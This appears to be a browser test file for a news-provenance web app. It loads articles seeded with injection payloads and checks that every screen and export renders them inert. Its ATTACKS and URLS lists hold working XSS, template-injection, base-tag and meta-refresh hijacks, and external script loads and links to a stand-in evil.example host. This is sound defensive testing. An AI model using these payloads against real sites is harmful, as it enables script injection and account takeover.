"""Articles made to break the page, through every screen, answer and export, in a real Chromium."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from provenance import Article, Engine
from provenance.exports import SUFFIXES
from provenance.web import addresses
from provenance.web.settings import WebSettings
from tests.browser import visiting_in
from tests.web import served

if TYPE_CHECKING:
    from playwright.sync_api import Browser

# What scripts, styles, templates and other readers of text would take for their own.
ATTACKS = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    '"><svg/onload=window.pwned=1>',
    "' autofocus onfocus=window.pwned=1 x='",
    "{{ 7 * 7 }}{% raw %}${window.pwned=1}",
    "</title></textarea></style><script src=https://evil.example/x.js></script>",
    "javascript:window.pwned=1",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>",
    "\u202egnp.exe\u0000\u001b[31m]]> --> */",
    '=HYPERLINK("https://evil.example/")',
)
STORY = (
    "The dam keepers of Orlen said on Monday that the northern gate had failed. "
    "“We heard it crack at 4:10 a.m.,” keeper {attack} Marta Vance said. "
    "Eleven houses below the gate were empty when the water came, according to {attack}. "
    "Engineers will close the valley road until Thursday, the keepers said. "
    "The gate was built in 1962 and was last inspected by a private firm two years ago."
)
# Links in a drawing keep their address in another place than those of the page.
PROTOCOLS = "all => all.map(a => new URL(a.href.baseVal ?? a.href, location).protocol)"
URLS = (
    "javascript:window.pwned=1",
    'https://evil.example/"><script>window.pwned=1</script>',
    "data:text/html,<script>window.pwned=1</script>",
    "https://user:pass@evil.example/?<b>",
)


def hostile_articles() -> Iterator[Article]:
    """Yield copies of one story, each with an attack in every field."""
    for number, attack in enumerate(ATTACKS):
        yield Article(
            id=f"a{number}/{attack}",
            url=URLS[number] if number < len(URLS) else None,
            outlet=f"Outlet {number} {attack}",
            title=f"Gate fails {attack}",
            byline=f"By {attack}",
            published_at="2026-02-03" if number % 2 else attack,
            language="en" if number % 3 else attack,
            text=STORY.format(attack=attack),
            extra={"note": attack},
        )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of hostile articles, with decisions and a kept answer that are hostile too."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    with Engine(path) as engine:
        engine.ingest(hostile_articles())
        engine.finish()
        edge = next(edge for edge in engine.tree().tree.derivations if edge.source)
        engine.decide(
            "accept", reviewer=ATTACKS[0], article=edge.article, source=edge.source, note=ATTACKS[1]
        )
        engine.finish()
        engine.freeze(query=STORY.format(attack=ATTACKS[5]), note=ATTACKS[2])
    return path


def addresses_of(store: Path) -> list[str]:
    """Return every screen of every article and claim, and the API's and exports' answers."""
    with Engine(store) as engine:
        ids = [article.id for article in engine.articles()]
        claims = [claim.id for claim in engine.claims().claims]
        kept = [snapshot.id for snapshot in engine.snapshots()]
    found = [
        addresses.ASK, addresses.TREES, addresses.TIMELINES, addresses.CLAIMS, addresses.ARTICLES,
        f"{addresses.REVIEW}?history=true", addresses.SNAPSHOTS, addresses.EXPORTS, addresses.ADD,
    ]  # fmt: skip
    for name in ids:
        found += [
            addresses.article(name),
            addresses.tree(name),
            addresses.timeline(name),
            addresses.who(name),
            addresses.with_values(addresses.EXPORTS, article=name),
        ]
    found += [addresses.compare(ids[0], other) for other in ids[1:4]]
    found += [addresses.claim(claim) for claim in claims[:5]]
    found += [addresses.who(attack) for attack in ATTACKS]
    found += [addresses.with_values(addresses.CLAIMS, about=attack) for attack in ATTACKS]
    found += [addresses.snapshot(name) for name in kept]
    return found


def test_hostile_articles_are_inert_on_every_screen(browser: Browser, hostile: Path) -> None:
    """They are shown as text: nothing runs, nothing is asked of another machine."""
    with (
        served(WebSettings(db=hostile)) as address,
        visiting_in(browser, address) as visit,
    ):
        page = visit.open("/")
        page.on("dialog", lambda dialog: visit.faults.append(f"dialog: {dialog.message}"))
        for path in addresses_of(hostile):
            answer = page.goto(address + path)
            assert answer is not None
            assert answer.status < 500, path
            assert page.evaluate("() => window.pwned") is None, path
            assert page.locator("script:not([src^='/static/']), base, iframe").count() == 0, path
            links = page.locator("a[href]").evaluate_all(PROTOCOLS)
            assert set(links) <= {"http:", "https:"}, path


def test_hostile_exports_are_inert_when_they_are_opened(browser: Browser, hostile: Path) -> None:
    """A file that was downloaded from the page must not be its trap either."""
    with (
        served(WebSettings(db=hostile)) as address,
        visiting_in(browser, address) as visit,
    ):
        page = visit.open("/")
        for form in SUFFIXES:
            answer = page.request.get(address + addresses.export(form))
            assert answer.ok, form
            assert "attachment" in answer.headers["content-disposition"], form
            if form in ("html", "svg"):
                # As a page of its own, without the server's headers: what a reader would open.
                page.goto("about:blank")
                page.set_content(answer.text())
                assert page.evaluate("() => window.pwned") is None, form
